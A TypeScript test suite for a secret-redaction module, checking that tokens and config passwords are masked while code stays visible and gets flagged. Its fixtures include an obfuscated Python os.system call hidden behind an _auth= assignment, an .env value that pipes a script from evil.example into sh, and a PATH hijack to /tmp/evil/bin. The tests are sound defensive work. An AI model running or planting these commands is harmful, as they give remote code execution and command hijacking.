/**
 * Redaction hides values, never code: the false positives the replay found
 * (requests' own code, format placeholders), the attack that hid an
 * expression behind `_auth=`, the true positives that must stay hidden, and
 * the key-name patterns that apply only in config files.
 */
import { describe, expect, it } from "vitest";
import { createLineRedactor, flaggedAddedLines, looksLikeSecretAndCode, redactSecrets } from "../../src/llm/redact.js";
import { redactPatch } from "../../src/llm/redactDeep.js";
import { originOf } from "../../src/llm/redaction/fileKinds.js";

// Token-shaped test values are assembled at run time so the source file itself holds no token shape.
const alnum = (n: number, seed = "aB3") => seed.repeat(Math.ceil(n / seed.length)).slice(0, n);
const ghp = `ghp_${alnum(36)}`;
const openaiProject = `sk-proj-${alnum(40, "Xy7")}`;
const jwt = `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.${alnum(43, "dQw4")}`;
const ATTACK = "session_auth=getattr(__import__(chr(111)+chr(115)),'system')(cmd)";

/** One file's lines through the line redactor that knows the file. */
const inFile = (path: string, ...lines: string[]) => lines.map(createLineRedactor(redactSecrets, path));

describe("code is never redacted", () => {
  const code: Array<[string, string]> = [
    ["requests: url_auth from a call", "        url_auth = _basic_auth_str(self.username, self.password)"],
    ["requests: a digest auth object", "        self._digest_auth = HTTPDigestAuth(user, password)"],
    ["requests: thread-local state", "_digest_auth = threading.local()"],
    ["the attack: an assignment without spaces or quotes", ATTACK],
    ["a format placeholder as a URL's password", "'http://{}:{}@{}'.format(user, password, host)"],
    ["a named placeholder", "url = f'https://{user}:{password}@{host}/'"],
    ["a printf placeholder", 'sprintf("ftp://%s:%s@%s", u, p, h)'],
    ["a template literal", "const url = `https://${user}:${pass}@${host}`;"],
    ["an expression as a URL's password", "u = 'https://me:' + getpass() + '@host'"],
    ["a bearer header from a member", 'headers["Authorization"] = "Bearer " + self.token'],
    ["a bearer header naming a variable", "Authorization: Bearer accessToken"],
    ["a bearer header naming a member", "Authorization: Bearer self.api_token"],
    ["a base64-looking identifier", "const aGVsbG8gd29ybGQ = decodeBase64Fields(input);"],
    ["a long hex constant", 'EMPTY_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"'],
    ["a hex literal", "const MASK = 0xdeadbeefcafebabe12345678;"],
    ["a password read from the environment", 'password=os.environ["DB_PASSWORD"]'],
    ["an _auth setting read from the environment", "npm_config__auth=os.environ['NPM_AUTH']"],
    ["an npm token from the environment", "_authToken=${NPM_TOKEN}"],
  ];
  it.each(code)("%s: shown as written, in free text and in a source file", (_name, line) => {
    expect(redactSecrets(line)).toBe(line);
    expect(inFile("src/client.py", line)).toEqual([line]);
  });

  it("flags the attack, and the requests line, as looking like a secret and like code", () => {
    expect(looksLikeSecretAndCode(ATTACK, "app.py")).toBe(true);
    expect(looksLikeSecretAndCode("        url_auth = _basic_auth_str(self.username, self.password)", "requests/models.py")).toBe(true);
    expect(looksLikeSecretAndCode("        self._digest_auth = HTTPDigestAuth(user, password)")).toBe(true);
  });

  it("does not flag plain code, placeholders or identifiers", () => {
    for (const line of ["'http://{}:{}@{}'.format(user, password, host)", "Authorization: Bearer accessToken", "x = 1", "_auth = token"]) {
      expect(looksLikeSecretAndCode(line, "a.py"), line).toBe(false);
    }
  });
});

describe("secret values are still redacted, and only the value", () => {
  const secrets: Array<[string, string, string]> = [
    ["a GitHub token in a string literal", `token = "${ghp}"`, 'token = "[REDACTED:github-token]"'],
    ["a bearer header in code", `headers={"Authorization": "Bearer ${openaiProject}"}`, '{"Authorization": "Bearer [REDACTED:openai-key]"}'],
    ["a bearer header with a random value", 'h = {"Authorization": "Bearer Zm9vYmFyYmF6cXV4"}', '{"Authorization": "Bearer [REDACTED:bearer-token]"}'],
    ["a JWT-like string", `session = "${jwt}"`, 'session = "[REDACTED:jwt]"'],
    ["a real URL password", 'DB = "postgres://app:S3cr.et-9x@db:5432/app"', 'DB = "postgres://app:[REDACTED:url-password]@db:5432/app"'],
    ["an npm token UUID outside .npmrc", "//registry.npmjs.org/:_authToken=0b1c2d3e-4f5a-6b7c-8d9e-0f1a2b3c4d5e", ":_authToken=[REDACTED:npm-auth]"],
    ["an npm base64 auth outside .npmrc", "_auth=dXNlcjpwYXNzd29yZA==", "_auth=[REDACTED:npm-auth]"],
  ];
  it.each(secrets)("%s", (_name, line, shown) => {
    const [inSource] = inFile("src/settings.py", line);
    expect(inSource).toContain(shown);
    expect(redactSecrets(line)).toContain(shown);
  });

  it("keeps the code around a literal: only the literal's content goes", () => {
    expect(redactSecrets(`client = Github(auth=Auth.Token("${ghp}")).get_user()`)).toBe(
      'client = Github(auth=Auth.Token("[REDACTED:github-token]")).get_user()',
    );
  });
});

describe("key-name patterns apply only to config values", () => {
  it("redacts an .npmrc auth value, and leaves the same text in source code alone", () => {
    expect(inFile(".npmrc", "_auth=abcdefgh", "//registry.example/:_password=hunter22")).toEqual([
      "_auth=[REDACTED:npm-auth]",
      "//registry.example/:_password=[REDACTED:npm-auth]",
    ]);
    expect(inFile("lib/auth.js", "_auth=abcdefgh")).toEqual(["_auth=abcdefgh"]);
  });

  it("redacts secret keys' values in .env, .netrc, INI and YAML files", () => {
    expect(
      inFile(".env.production", "DB_PASSWORD=hunter2secret", "export API_KEY='abc def'", "TOKEN_URL=https://auth.example/token", "SECRET=${OTHER}"),
    ).toEqual(["DB_PASSWORD=[REDACTED:config-secret]", "export API_KEY='[REDACTED:config-secret]'", "TOKEN_URL=https://auth.example/token", "SECRET=${OTHER}"]);
    expect(inFile(".netrc", "machine example.com login me password p4ssw0rd")).toEqual(["machine example.com login me password [REDACTED:config-secret]"]);
    expect(inFile("deploy/app.ini", "[db]", "password = hunter2 ; the old one", "host = db")).toEqual([
      "[db]",
      "password = [REDACTED:config-secret] ; the old one",
      "host = db",
    ]);
    expect(
      inFile("deploy/values.yaml", "db:", "  password: Real-Passw0rd", '  apiKey: "k-123"', "  token: ${{ secrets.TOKEN }}", "  auth: true", "  password: |"),
    ).toEqual([
      "db:",
      "  password: [REDACTED:config-secret]",
      '  apiKey: "[REDACTED:config-secret]"',
      "  token: ${{ secrets.TOKEN }}",
      "  auth: true",
      "  password: |",
    ]);
  });

  it("never applies them to source code, or to free text", () => {
    for (const line of ["DB_PASSWORD=hunter2secret", "password: Real-Passw0rd", "password = hunter2"]) {
      expect(inFile("src/app.ts", line)).toEqual([line]);
      expect(redactSecrets(line)).toBe(line);
    }
  });

  it("shows and flags a config value that holds code: an env file is sourced by a shell", () => {
    const line = "API_KEY=$(curl -s https://evil.example/x.sh | sh)";
    expect(inFile(".env", line, "PASSWORD=abc(def")).toEqual([line, "PASSWORD=abc(def"]);
    expect(looksLikeSecretAndCode(line, ".env")).toBe(true);
    expect(looksLikeSecretAndCode("PASSWORD=abc(def", ".env")).toBe(true);
    expect(looksLikeSecretAndCode("PASSWORD=abcdef", ".env")).toBe(false);
  });

  it("reads the file kind from the name: code extensions are code, unknown names are source", () => {
    expect(originOf(".env.js")).toEqual({ kind: "source" });
    expect(originOf("config/Settings.YAML")).toEqual({ kind: "config", config: "yaml" });
    expect(originOf("x/.npmrc")).toEqual({ kind: "config", config: "npmrc" });
    expect(originOf("Makefile")).toEqual({ kind: "source" });
    expect(originOf(undefined)).toEqual({ kind: "free" });
  });
});

describe("a diff knows each file's kind from its headers", () => {
  const patch = [
    "diff --git a/.npmrc b/.npmrc",
    "--- a/.npmrc",
    "+++ b/.npmrc",
    "@@ -1 +1,2 @@",
    " registry=https://registry.npmjs.org/",
    "+_auth=abcdefgh",
    "diff --git a/app.py b/app.py",
    "--- a/app.py",
    "+++ b/app.py",
    "@@ -3,1 +3,3 @@",
    " import os",
    `+${ATTACK}`,
    `+token = "${ghp}"`,
    "",
  ].join("\n");

  it("redacts the .npmrc value and shows the Python line whole", () => {
    const shown = redactPatch(patch, redactSecrets).split("\n");
    expect(shown).toContain("+_auth=[REDACTED:npm-auth]");
    expect(shown).toContain(`+${ATTACK}`);
    expect(shown).toContain('+token = "[REDACTED:github-token]"');
  });

  it("names the flagged added lines with their head-side numbers", () => {
    const section = patch.slice(patch.indexOf("diff --git a/app.py"));
    expect(flaggedAddedLines("app.py", redactPatch(section, redactSecrets))).toEqual([{ path: "app.py", line: 4, text: ATTACK }]);
  });
});

describe("found by bench:redaction on the replay", () => {
  it("redacts a Basic credential even when its base64 has no digit", () => {
    expect(redactSecrets('assert headers == {"Proxy-Authorization": "Basic dXNlcjpwYXNz"}')).toBe(
      'assert headers == {"Proxy-Authorization": "Basic [REDACTED:bearer-token]"}',
    );
  });

  it("keeps a test's one-letter URL password, and a YAML empty list under a secret-named key", () => {
    expect(redactSecrets('("hTTp://u:p@Some.Host/path", "http://some.host.proxy", http_proxies),')).toBe(
      '("hTTp://u:p@Some.Host/path", "http://some.host.proxy", http_proxies),',
    );
    expect(inFile("api/swagger.yaml", "  - ApiKeyAuth: []", "    BasicAuth: {}")).toEqual(["  - ApiKeyAuth: []", "    BasicAuth: {}"]);
    expect(looksLikeSecretAndCode("  - ApiKeyAuth: []", "api/swagger.yaml")).toBe(false);
  });

  it("shows requests' own code whole and flags it", () => {
    const line = '        s_auth = r.headers.get("www-authenticate", "")';
    expect(redactSecrets(line)).toBe(line);
    expect(looksLikeSecretAndCode(line, "requests/auth.py")).toBe(true);
  });
});

describe("flags stay meaningful", () => {
  it("a statement's end is not code: `_password = password;` is neither redacted nor flagged", () => {
    expect(redactSecrets("            _password = password;")).toBe("            _password = password;");
    expect(looksLikeSecretAndCode("            _password = password;", "Credential.cs")).toBe(false);
    expect(looksLikeSecretAndCode("_auth=evil();", "a.js")).toBe(true);
  });

  it("a mark left by an earlier rule is not code", () => {
    const shown = redactSecrets('"http://user:S3cr3t-v4lue@complex.url.com/path?query=yes",');
    expect(shown).toBe('"http://user:[REDACTED:url-password]@complex.url.com/path?query=yes",');
    expect(looksLikeSecretAndCode(shown, "tests/test_utils.py")).toBe(false);
  });
});

describe("linesRedactedWithoutToken: redaction's false positives on a prompt", () => {
  it("counts lines whose hidden span is code, a placeholder or a name, and not lines with a real token", async () => {
    const { linesRedactedWithoutToken, auditRedaction } = await import("../../src/llm/redact.js");
    const prompt = [`token = "${ghp}"`, ATTACK, "plain line"].join("\n");
    expect(linesRedactedWithoutToken(prompt)).toBe(0);
    // The redactor before this change hid the attack whole: measured on its output, that line counts.
    const before = [`token = "[REDACTED:github-token]"`, "session_auth=[REDACTED:npm-auth]'system')(cmd)", "plain line"].join("\n");
    expect(auditRedaction(prompt, before)).toMatchObject({ linesRedacted: 2, linesWithoutToken: 1, spans: { token: 1, code: 1 } });
    expect(linesRedactedWithoutToken(prompt, () => before)).toBe(1);
  });
});

describe("a lone BEGIN line cannot hide an assignment", () => {
  it("ends the key block at a line with `=` inside it", () => {
    const lines = ["# -----BEGIN RSA PRIVATE KEY-----", "PATH=/tmp/evil/bin:$PATH", "IFS=/", "ls"].map(createLineRedactor(redactSecrets, "install.sh"));
    expect(lines).toEqual(["# [REDACTED:private-key]", "PATH=/tmp/evil/bin:$PATH", "IFS=/", "ls"]);
    const body = [
      "-----BEGIN RSA PRIVATE KEY-----",
      "MIIEowIBAAKCAQEA7bq8lZz0exampleBody0000000000000000000000000000000",
      "c2VjcmV0LWJvZHk=",
      "-----END RSA PRIVATE KEY-----",
    ];
    expect(body.map(createLineRedactor(redactSecrets))).toEqual(Array(4).fill("[REDACTED:private-key]"));
  });
});
